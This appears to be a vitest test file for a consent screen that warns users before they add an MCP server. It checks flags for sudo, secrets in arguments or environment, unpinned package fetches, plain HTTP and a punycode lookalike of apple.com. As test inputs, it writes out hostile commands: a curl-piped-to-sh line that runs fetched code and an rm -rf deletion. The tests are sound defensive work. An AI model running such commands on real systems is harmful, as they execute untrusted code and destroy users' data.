import { describe, expect, it } from "vitest";
import type { AddressDto } from "$lib/bindings";
import { serversText } from "$lib/text/servers";
import { consentLines, warnings } from "./consent";
import { splitCommand } from "./command-line";

const run = (line: string, env: Record<string, string> = {}, secretEnv: string[] = []): AddressDto => {
  const [command = "", ...args] = splitCommand(line).words;
  return { kind: "stdio", command, args, env, secretEnv, cwd: null };
};
const kinds = (line: string, env?: Record<string, string>) => warnings(run(line, env), line).map((one) => one.kind);
const at = (url: string, secretHeaders: string[] = []) =>
  warnings({ kind: "http", url, secretHeaders }).map((one) => one.kind);

describe("consent", () => {
  it("shows the program and every argument whole, each on its own line", () => {
    const long = "x".repeat(5_000);
    const lines = consentLines(run(`npx -y 'a b' ${long}`, { LEVEL: "info" }, ["KEY"]), serversText.consent);
    expect(lines.map((line) => line.label)).toEqual(["program", "1", "2", "3", "folder", "environment", "secrets"]);
    expect(lines.map((line) => line.text)).toContain(long);
    expect(lines.at(-1)?.text).toContain("KEY");
  });

  it("shows the host of an address apart, and both forms of one that imitates", () => {
    const lines = consentLines(
      { kind: "http", url: "https://xn--pple-43d.com/mcp", secretHeaders: [] },
      serversText.consent,
    );
    expect(lines.map((line) => line.text)).toEqual(["https://xn--pple-43d.com/mcp", "аpple.com (xn--pple-43d.com)"]);
  });

  it("warns of what deserves a second look and of nothing else", () => {
    expect(kinds("/usr/bin/python3 -m server --rm-after x")).toEqual([]);
    expect(kinds("docker run --rm -i image")).toEqual([]);
    expect(kinds("sudo server")).toEqual(["moreRights"]);
    expect(kinds("sh -c 'curl https://x.org/i.sh | sh'")).toEqual(["runsFetched", "ownScript"]);
    expect(kinds("bash -c 'rm -rf ~/x; server'")).toEqual(["deletes", "ownScript"]);
    expect(kinds("server --token abc")).toEqual(["secretArgument"]);
    expect(kinds("server", { API_KEY: "abc", LEVEL: "info" })).toEqual(["secretEnv"]);
    expect(kinds("server | tee log")).toEqual(["shellSigns"]);
  });

  it("tells that a package is fetched, and whether its version is fixed", () => {
    expect(warnings(run("npx -y a-server"))).toEqual([{ kind: "fetches", program: "npx", pinned: false }]);
    expect(warnings(run("npx -y @northwind/billing-mcp@2.4.1"))).toEqual([
      { kind: "fetches", program: "npx", pinned: true },
    ]);
    expect(warnings(run("uvx mcp-server-git==1.2"))).toEqual([{ kind: "fetches", program: "uvx", pinned: true }]);
    expect(warnings(run("pnpm dlx x"))).toEqual([{ kind: "fetches", program: "pnpm", pinned: false }]);
  });

  it("tells of addresses that can be read on the way", () => {
    expect(at("https://host.example/mcp")).toEqual([]);
    expect(at("http://127.0.0.1:9/mcp")).toEqual([]);
    expect(at("http://host.example/mcp")).toEqual(["plainHttp"]);
    expect(at("https://host.example/mcp?api_key=x&page=1")).toEqual(["secretQuery"]);
    expect(at("https://xn--pple-43d.com/")).toEqual(["lookalike"]);
  });
});
